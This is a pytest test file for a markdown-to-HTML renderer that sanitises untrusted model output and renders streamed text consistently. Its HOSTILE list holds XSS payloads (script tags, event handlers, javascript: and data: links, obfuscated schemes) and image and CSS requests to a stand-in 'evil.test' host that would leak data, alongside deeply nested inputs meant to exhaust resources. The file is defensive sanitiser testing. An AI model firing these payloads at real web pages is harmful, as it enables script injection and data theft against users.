"""Markdown of untrusted text: all a model writes becomes safe HTML, and a growing text the same HTML as a whole."""

from __future__ import annotations

import random
from collections import OrderedDict
from html.parser import HTMLParser

import pytest

from tabs import markdown
from tabs.markdown import Stream, render

TEXTS = {
    "paragraphs": "One *two*\nthree\n\nFour `five`  \nsix\n\n\nSeven\n",
    "headings": "# One\ntext\n## Two #\n\nThree\n===\n\nFour\n---\n\n#hash\n",
    "numbered list": "Steps:\n\n1. one\n\n2. two\n\n   more of two\n\n10. ten\n\nEnd.\n",
    "loose after tight": "- a\n- b\n\n- c\n\nEnd\n\n- d\n",
    "fence in a list": "- a\n  ```\n  code\n\nout of it\n\n```\nx\n\nyes\n```\n\nEnd\n",
    "fence in a fence": "````markdown\n```python\nx = 1\n\ny = 2\n```\n\nText\n````\n\nEnd\n",
    "fence, tildes": "~~~\n```\na\n\nb\n~~~\n\nEnd **bold**\n",
    "fence with words after": "```\na\n\n``` not the end\n\nb\n```\n\nEnd\n",
    "fence, open": "Look:\n\n```python\ndef f():\n\n    return 1\n\n\nclass A: ...\n",
    "fence, indented": "Text\n\n    ```\n\nNo fence\n\n    ```\n\nText\n",
    "inline code over lines": "a ``b\n\nc`` d\n\nEnd\n",
    "table": "| a | b |\n|---|:-:|\n| 1 | *2* |\n\nAfter | it\n\n| c |\n|---|\n\nEnd\n",
    "quotation": "> a\n> b\nlazy\n\nOut\n\n> - c\n>\n>   d\n\nEnd\n",
    "rule or heading": "a\n\n---\n\nb\n---\n\n* * *\n\nc\n",
    "html": "<div>\n\nText <b>x</b>\n\n<script>\nalert(1)\n\n</script>\n\nEnd &amp; &lt;\n",
    "links": "[a](http://x) <http://y> [b]\n\nc [b][]\n\n[b]: http://z\n\nd [b]\n",
    "line ends": "a\r\n\r\nb\r\n- c\r\n\r\n  d\r\rEnd\r\n",
    "odd spaces": "a\x0cb\x0b\x1cc\u2028d\x85e\n\n\u00a0f\n\n\u3000g\n",
    "control": "a\x00b\x1b[31m\x07\n\nc\ufffd\n",
    "unicode": "né€😀\n\nالسلام *عليكم*\n\n中文\n",
    "emphasis across": "**bold\n\nnot bold**\n\n~~gone~~\n",
    "nested list": "- a\n  - b\n\n    c\n  - d\n\n      code\n\n- e\n\nEnd\n",
    "blank code": "a\n\n    b\n\n\n    c\n\nd\n",
}


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_a_growing_text_is_always_shown_as_the_whole_would_be(text: str) -> None:
    stream = Stream()
    for end in range(len(text) + 1):
        stream.update(text[:end])
        assert stream.html == render(text[:end]), repr(text[:end])


PIECES = (
    "\n", "\n", "\n\n", "\n\n", "\r\n", " ", "    ", "\t", "\x0c", "\\", "a", "b c", "#", "# ", "---", "--",
    "===", "- ", "* ", "+ ", "1. ", "2) ", "> ", "```", "~~~", "````", "`", "**", "*", "_", "|", "|-|", "[x]",
    "[x]:", "(http://x)", "<b>",
)  # fmt: skip


@pytest.mark.parametrize("seed", range(10))
def test_a_growing_text_of_random_pieces_is_shown_as_the_whole_would_be(seed: int) -> None:
    dice = random.Random(seed)
    for _ in range(30):
        text, stream = "".join(dice.choices(PIECES, k=dice.randint(3, 30))), Stream()
        for end in range(len(text) + 1):
            stream.update(text[:end])
        assert stream.html == render(text[:end]), repr(text[:end])


@pytest.mark.parametrize("step", [2, 7, 40])
def test_it_does_not_matter_where_the_updates_cut(step: int) -> None:
    text, stream = "\n\n".join(TEXTS.values()), Stream()
    for end in [*range(0, len(text), step), len(text)]:
        stream.update(text[:end])
        assert stream.html == render(text[:end])


def test_a_text_that_is_replaced_begins_anew() -> None:
    stream = Stream()
    stream.update("One\n\nTwo\n\nThree\n")
    stream.update("Four\n\nFive")
    assert stream.html == render("Four\n\nFive")


def test_what_a_stream_leaves_behind_is_what_would_be_rendered(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(markdown, "_rendered", OrderedDict())
    whole = {text: render(text) for text in TEXTS.values()}
    for text in whole:
        stream = Stream()
        stream.update(text[: len(text) // 2])
        stream.finish(text)
    monkeypatch.setattr(markdown._parser(), "render", None)  # is not asked again
    assert {text: render(text) for text in whole} == whole
    for number in range(markdown.REMEMBERED):
        Stream().finish(str(number))
    assert len(markdown._rendered) == markdown.REMEMBERED


def test_finished_blocks_are_rendered_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """The work of an update is that of its last blocks, not of the answer: else long answers would get slow."""
    seen: list[int] = []
    parser = markdown._parser()
    parse = parser.parse
    monkeypatch.setattr(parser, "parse", lambda source, env=None: seen.append(len(source)) or parse(source, env))
    stream, text = Stream(), ""
    for number in range(200):
        text += f"Paragraph {number}\nof two lines\n\n"
        stream.update(text)
    assert len(text) > 5_000
    assert max(seen) < 200


HOSTILE = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror=hacked()>",
    "<svg/onload=hacked()>",
    "<svg><script>hacked()</script></svg>",
    "<iframe src=javascript:hacked()></iframe>",
    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
    "<math><mi//xlink:href='data:x,<script>hacked()</script>'>",
    "<a href='javascript:hacked()'>x</a>",
    "[x](javascript:hacked())",
    "[x](JaVaScRiPt:hacked())",
    "[x]( java\nscript:hacked())",
    "[x](&#106;avascript:hacked())",
    "[x](\x01javascript:hacked())",
    "[x](data:text/html,<script>hacked()</script>)",
    "[x](vbscript:hacked())",
    "[x](file:///etc/passwd)",
    "<javascript:hacked()>",
    '[x](http://x "\\" onmouseover=hacked())',
    '[x](http://x"onmouseover="hacked())',
    "![x](http://evil.test/?d=secret)",
    '![" onerror="hacked()](http://evil.test/x)',
    '![x](http://evil.test/" onerror="hacked())',
    "![x](javascript:hacked())",
    "![x](data:image/svg+xml,<svg/onload=hacked()>)",
    "<style>*{background:url(http://evil.test/)}</style>",
    "<div style='background:url(http://evil.test/)'>x</div>",
    "<form action=http://evil.test><input name=a></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.test'>",
    "<base href=http://evil.test/>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<details open ontoggle=hacked()>",
    "<!--><img src=x onerror=hacked()>-->",
    '```"><img src=x onerror=hacked()>\nx\n```',
    "```html\n</code></pre><script>hacked()</script>\n```",
    "    </code></pre><script>hacked()</script>",
    "`</code><script>hacked()</script>`",
    "| <script>hacked()</script> |\n|---|\n| <img src=x onerror=hacked()> |",
    "[ref]\n\n[ref]: javascript:hacked()",
    "</template></div></section><script>hacked()</script>",
    '<button data-act="remove" data-open="picker">x</button>',
    "${hacked()} {{hacked()}} {%hacked()%}",
]
ALLOWED = {
    "p": set(), "br": set(), "em": set(), "strong": set(), "s": set(), "hr": set(), "blockquote": set(),
    "h1": set(), "h2": set(), "h3": set(), "h4": set(), "h5": set(), "h6": set(),
    "ul": set(), "ol": {"start"}, "li": set(), "code": set(), "pre": set(),
    "table": set(), "thead": set(), "tbody": set(), "tr": set(), "th": {"style"}, "td": {"style"},
    "a": {"href", "title", "rel", "target"}, "div": {"class"}, "span": {"class"}, "button": {"type", "data-copy"},
}  # fmt: skip


class Reader(HTMLParser):
    """What a browser would find: elements with their attributes, and how deep they lie."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.depth = self.deepest = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in ("br", "hr"):
            self.depth += 1
            self.deepest = max(self.deepest, self.depth)

    def handle_endtag(self, tag: str) -> None:
        self.depth -= 1

    def handle_comment(self, data: str) -> None:
        self.elements.append(("!--", {}))


def read(html: str) -> Reader:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_becomes_nothing_that_acts(text: str) -> None:
    stream = Stream()
    stream.update(text)
    for html in (render(text), stream.html, render(f"- x\n  > {text}")):
        for tag, attributes in read(html).elements:
            assert tag in ALLOWED
            assert set(attributes) <= ALLOWED[tag]
            if tag == "a":
                assert (attributes["href"] or "").startswith(("http://", "https://", "mailto:", "#"))
                assert attributes["rel"] == "noopener noreferrer nofollow"
                assert attributes["target"] == "_blank"
            if "style" in attributes:
                assert attributes["style"] in ("text-align:left", "text-align:right", "text-align:center")


def test_nothing_of_a_hostile_text_is_lost() -> None:
    assert "&lt;script&gt;hacked()&lt;/script&gt;" in render("<script>hacked()</script>")
    assert "javascript:hacked()" in render("[x](javascript:hacked())")


@pytest.mark.parametrize(
    "text",
    [
        "> " * 5_000 + "x",
        "".join("  " * n + "- x\n" for n in range(300)),
        "- " * 3_000 + "x",
        "[" * 5_000 + "x" + "](http://x)" * 500,
        "![" * 2_000 + "x" + "](http://x)" * 2_000,
        "`" * 5_000 + "x",
        "".join("`" * n + " " for n in range(150)),
        "|" * 3_000 + "\n" + "|-" * 3_000 + "|\n",
        "<" * 10_000,
        "<a " * 3_000,
        "&" * 10_000,
        "\\" * 10_000,
        "[a](" * 3_000,
        "x" * 200_000,
        "~~" * 5_000,
    ],
    ids=lambda text: f"{text[:8]!r} x {len(text)}",
)
def test_hostile_nesting_ends_at_a_limit(text: str) -> None:
    """Neither Python's stack nor the browser's is at the mercy of a text, and its HTML stays in proportion."""
    html = render(text)
    assert read(html).deepest <= 64
    assert len(html) <= 40 * len(text) + 1_000


@pytest.mark.parametrize("text", ["*" * 5_000 + "x" + "*" * 5_000, "**_" * 2_000 + "x" + "_**" * 2_000])
def test_emphasis_in_emphasis_does_not_multiply_a_text(text: str) -> None:
    assert len(render(text)) <= 10 * len(text)


def test_a_table_cannot_multiply_a_text() -> None:
    """Rows are filled up to the width of the head: a few kilobytes must not become many megabytes of cells."""
    text = "|" + "a|" * 500 + "\n|" + "-|" * 500 + "\n" + "x\n" * 500 + "\n"
    assert len(render(text)) <= 300 * len(text)
    assert len(render(text * 4)) < 1_000_000 * 4


def test_very_long_code_is_left_without_colours() -> None:
    short, long = "x = 1\n" * 10, "x = 1\n" * 10_000
    assert "hl-" in render(f"```python\n{short}```")
    assert "hl-" not in render(f"```python\n{long}```")
    assert render(f"```python\n{long}```").count("x = 1") == 10_000


def test_code_keeps_its_indentation_and_says_its_language() -> None:
    html = render("```text\ndef f():\n\treturn  1\n```")
    assert "def f():\n\treturn  1\n" in html
    assert "<span>text</span>" in html


@pytest.mark.parametrize(("text", "part"), [
    ("*a* **b** ~~c~~ `d`", "<em>a</em> <strong>b</strong> <s>c</s> <code>d</code>"),
    ("a\nb", "a<br />\nb"),
    ("- a\n  - b", "<ul>\n<li>a\n<ul>\n<li>b</li>"),
    ("3. a", '<ol start="3">'),
    ("|a|\n|-|\n|b|", "<td>b</td>"),
    ("> a", "<blockquote>"),
    ("[a](https://x.test)", '<a href="https://x.test"'),
])  # fmt: skip
def test_what_models_write_is_formatted(text: str, part: str) -> None:
    assert part in render(text)
